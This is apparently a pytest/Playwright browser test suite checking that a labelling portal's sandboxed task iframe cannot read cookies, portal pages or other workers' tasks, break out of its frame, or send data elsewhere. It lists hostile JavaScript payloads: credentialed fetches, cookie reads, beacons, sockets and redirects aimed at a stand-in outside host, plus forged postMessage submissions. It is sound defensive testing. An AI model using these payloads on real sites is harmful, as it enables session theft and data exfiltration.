"""What a hostile template can't do: read the portal, work for others, leave its frame, or post elsewhere."""

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import BrowserContext, Frame

from tests.browser.worker_page import RunningPortal, WorkerPage, multi_select

pytestmark = pytest.mark.browser

type Make = Callable[..., RunningPortal]


class Listener:
    """Another site, which notes what it is asked."""

    def __init__(self) -> None:
        heard = self.heard = []  # type: ignore[var-annotated]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def elsewhere() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.server.shutdown()
    listener.server.server_close()


@pytest.fixture
def task(portal: Make, context: BrowserContext) -> tuple[RunningPortal, WorkerPage, Frame]:
    """A portal, a worker's page, and the frame in which a template does what it likes."""
    running = portal(objects=3)
    ann = WorkerPage(context, running)
    ann.wait_for_object(0)
    frame = ann.page.locator("iframe.shown").element_handle().content_frame()  # type: ignore[union-attr]
    assert frame is not None
    return running, ann, frame


READS = {
    "the portal's page": "parent.document.body.innerHTML",
    "the portal's address": "parent.location.href",
    "its own frame element": "frameElement.outerHTML",
    "the portal's storage": "parent.localStorage.length",
    "the next task": "parent.frames[1].document.body.innerHTML",
    "the jobs": "await (await fetch('/')).text()",
    "the jobs with cookies": "await (await fetch('PORTAL/', {credentials: 'include'})).text()",
    "the jobs unseen": "await (await fetch('PORTAL/', {mode: 'no-cors', credentials: 'include'})).text()",
    "a step of the worker": (
        "await (await fetch('PORTAL/jobs/pets/view', {method: 'POST', credentials: 'include'})).text()"
    ),
    "the portal's scripts by request": "await (await fetch('PORTAL/static/portal/work.js')).text()",
    "another task's page": "await (await fetch(location.href)).text()",
    "another object of S3": "await (await fetch('PORTAL/s3/0/bucket/secret.svg')).text()",
    "cookies of the browser": "if (document.cookie === '') throw new Error('none'); document.cookie",
}


@pytest.mark.parametrize("code", READS.values(), ids=READS.keys())
def test_a_template_can_not_read(task: tuple[RunningPortal, WorkerPage, Frame], code: str) -> None:
    running, _, frame = task
    script = code.replace("PORTAL", running.server.url)
    *statements, value = script.split("; ")
    outcome = frame.evaluate(
        f"async () => {{ try {{ {'; '.join(statements)}; return String({value}) || 'empty'; }}"
        " catch (error) { return 'refused: ' + error; } }"
    )
    assert outcome.startswith("refused: ") or "this address is not valid" in outcome


# The browser shows an error page in the frame's place, and the portal loads the task again.
LEAVES = {
    "by its location": "location.href = 'ELSEWHERE/left'",
    "by a link": "Object.assign(document.createElement('a'), {href: 'ELSEWHERE/left'}).click()",
    "by a form": (
        "const form = Object.assign(document.createElement('form'), {action: 'ELSEWHERE/left'});"
        " form.method = 'post'; document.body.append(form); form.submit()"
    ),
    "by a refresh": (
        "document.head.append(Object.assign(document.createElement('meta'),"
        " {httpEquiv: 'refresh', content: '0;url=ELSEWHERE/left'}))"
    ),
    "to the portal's pages": "location.href = '/'",
    "to a document of its own": "location.href = 'data:text/html,<script>1</script>'",
}
# Nothing happens but an error in the browser's console.
STAYS = {
    "by a link to the top": (
        "Object.assign(document.createElement('a'), {href: 'ELSEWHERE/left', target: '_top'}).click()"
    ),
    "by the top's location": "top.location.href = 'ELSEWHERE/left'",
    "by a new window": "open('ELSEWHERE/left')",
    "by a frame in it": (
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'ELSEWHERE/left'}))"
    ),
    "by a request": "fetch('ELSEWHERE/left', {method: 'POST', mode: 'no-cors', body: 'x'})",
    "by a beacon": "navigator.sendBeacon('ELSEWHERE/left', 'x')",
    "by a socket": "new WebSocket('ELSEWHERE/left'.replace('http', 'ws'))",
    "by an event source": "new EventSource('ELSEWHERE/left')",
    "by an image without https": "new Image().src = 'ELSEWHERE/left'",
    "by a script without https": (
        "document.head.append(Object.assign(document.createElement('script'), {src: 'ELSEWHERE/left'}))"
    ),
    "by a base": (
        "document.head.append(Object.assign(document.createElement('base'), {href: 'ELSEWHERE/'}));"
        " fetch('left', {mode: 'no-cors'})"
    ),
}


@pytest.mark.parametrize(
    ("code", "leaves"),
    [*((code, True) for code in LEAVES.values()), *((code, False) for code in STAYS.values())],
    ids=[*LEAVES, *STAYS],
)
def test_a_template_can_not_leave_or_post(
    task: tuple[RunningPortal, WorkerPage, Frame], elsewhere: Listener, code: str, leaves: bool
) -> None:
    running, ann, frame = task
    script = code.replace("ELSEWHERE", elsewhere.url)
    with ann.page.expect_console_message(lambda message: message.type == "error"):
        frame.evaluate(f"() => {{ setTimeout(() => {{ {script} }}, 0); }}")
    if leaves:
        ann.page.locator("#notice").get_by_text("The task left its page").wait_for()
    ann.wait_for_object(0)
    ann.choose("dog")
    ann.submit()
    ann.wait_for_object(1)
    assert running.answers() == {"0": [{"animals": {"labels": ["dog"]}}]}
    assert elsewhere.heard == []
    assert ann.page.url == f"{running.server.url}/jobs/pets"
    assert len(ann.page.context.pages) == 1


def test_only_the_frame_of_the_task_is_believed(task: tuple[RunningPortal, WorkerPage, Frame]) -> None:
    running, ann, _ = task
    message = {"source": "crowd-frame", "v": 1, "type": "submit", "answer": {"animals": {"labels": ["owl"]}}}
    ann.page.wait_for_function("document.querySelectorAll('iframe').length === 2")
    below = next(frame for frame in ann.page.frames[1:] if "Object 1" in frame.content())
    below.evaluate(f"() => parent.postMessage({json.dumps(message)}, '*')")
    ann.page.evaluate(f"() => postMessage({json.dumps(message)}, '*')")
    ann.choose("dog")
    ann.submit()
    ann.wait_for_object(1)
    assert running.answers() == {"0": [{"animals": {"labels": ["dog"]}}]}


def test_the_frame_opened_by_itself_is_still_sandboxed(task: tuple[RunningPortal, WorkerPage, Frame]) -> None:
    _, ann, frame = task
    page = ann.page.context.new_page()
    page.goto(frame.url)
    assert page.evaluate("origin") == "null"
    assert page.evaluate("document.cookie") == ""


def test_an_svg_image_opened_by_itself_runs_no_script(portal: Make, context: BrowserContext) -> None:
    running = portal(page=multi_select(), objects=1)
    ann = WorkerPage(context, running)
    ann.wait_for_object(0)
    frame = ann.page.locator("iframe.shown").element_handle().content_frame()  # type: ignore[union-attr]
    assert frame is not None
    source = frame.locator("crowd-image-classifier-multi-select").get_attribute("src")
    assert source is not None
    page = context.new_page()
    response = page.goto(source)
    assert response is not None
    assert response.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    assert page.evaluate("origin") == "null"


def test_other_workers_tasks_are_out_of_reach(
    task: tuple[RunningPortal, WorkerPage, Frame], context: BrowserContext
) -> None:
    running, _, frame = task
    bob_context = context.browser.new_context()  # type: ignore[union-attr]
    bob = WorkerPage(bob_context, running, "Bob")
    bob.wait_for_object(2)
    address = bob.page.locator("iframe.shown").get_attribute("src")
    assert address is not None
    outcome = frame.evaluate(
        "async (address) => fetch(address).then((response) => response.text(), () => 'refused')",
        running.server.url + address,
    )
    assert outcome == "refused"
    bob_context.close()
